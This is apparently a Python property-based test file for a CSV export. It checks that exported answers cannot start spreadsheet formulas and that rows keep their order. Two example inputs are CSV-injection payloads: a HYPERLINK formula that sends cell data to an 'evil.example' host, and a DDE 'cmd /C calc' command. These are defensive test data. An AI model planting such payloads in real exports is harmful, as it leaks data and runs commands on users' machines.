"""The table holds every answer as it was given, whatever it is, and no spreadsheet takes it for more."""

import csv
import io
from dataclasses import replace
from datetime import date
from pathlib import Path
from tempfile import TemporaryDirectory

import pandas as pd
import pytest
from any_answers import NOW, answers
from hypothesis import example, given, settings
from hypothesis import strategies as st

from reconnect_widgets.answers import Answer
from reconnect_widgets.copies.chosen import Chosen
from reconnect_widgets.copies.making import make_copy
from reconnect_widgets.copies.table import COLUMNS, write_table
from reconnect_widgets.record import Record
from reconnect_widgets.stages import BY_NUMBER
from reconnect_widgets.store import Store
from reconnect_widgets.views.saying import say_answer

FORMULAS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
BEGIN = st.sampled_from(["", *FORMULAS, " ", "'", '"', ",", ";"])
ANY = st.text(st.characters(exclude_categories=["Cs"]), max_size=40)
said = st.builds(str.__add__, BEGIN, ANY)
NOTE = Answer(0, "space.name", "", "01", "text", "A few words", {}, "", "v", NOW.date(), NOW, NOW)


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def unmarked(cell: str) -> str:
    """A cell without the apostrophe that keeps it text."""
    return cell[1:] if cell.startswith(tuple(f"'{one}" for one in FORMULAS)) else cell


@settings(max_examples=300)
@given(words=said, value=said)
@example(words='=HYPERLINK("http://evil.example?"&A1)', value="@SUM(1+1)*cmd|' /C calc'!A0")
@example(words="a\r\n=1+1", value='"\n=1+1\n"')
def test_any_words_stand_in_one_cell_and_none_begins_a_formula(words: str, value: str) -> None:
    head, row = read("".join(write_table([replace(NOTE, words=words, value=value)])))

    assert tuple(head) == COLUMNS
    assert not any(cell.startswith(FORMULAS) for cell in row)
    assert row[1] == f"01 {BY_NUMBER['01'].title}"
    asked, answered = row[2:]
    assert asked in (words, f"'{words}")
    assert answered in (value, f"'{value}")


@settings(max_examples=40)
@given(st.lists(answers(), max_size=10), st.randoms(use_true_random=False))
def test_whatever_order_they_came_in_the_oldest_stands_first(
    given: list[Answer], order: object
) -> None:
    with TemporaryDirectory() as folder:
        store = Store(Path(folder, "a.sqlite3"))
        store.add(order.sample(given, len(given)))  # type: ignore[attr-defined]
        kept = list(store.every())
        made = make_copy("csv", Record(store, date(2026, 3, 18)), Chosen(), NOW).decode("utf-8-sig")
        store.close()

    rows = read(made)[1:]

    assert [unmarked(row[3]) for row in rows] == [unmarked(say_answer(answer)) for answer in kept]
    assert [row[1][:2] for row in rows] == [answer.page for answer in kept]
    assert [answer.changed_at for answer in kept] == sorted(a.changed_at for a in kept)


@pytest.mark.parametrize("begins", FORMULAS)
def test_pandas_reads_what_was_written(begins: str) -> None:
    answer = replace(NOTE, value=f"{begins}1, two")

    frame = pd.read_csv(io.StringIO("".join(write_table([answer]))), encoding="utf-8-sig")

    assert frame["answer"].tolist() == [f"'{begins}1, two"]
